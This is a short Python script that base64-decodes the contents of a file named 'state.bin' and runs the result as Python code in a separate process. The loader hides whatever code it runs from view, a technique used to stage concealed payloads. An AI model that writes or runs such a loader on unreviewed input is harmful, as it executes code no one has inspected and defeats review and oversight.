import base64
import subprocess
import sys

step = base64.b64decode(open("state.bin", "rb").read()).decode()
subprocess.Popen([sys.executable, "-c", step])
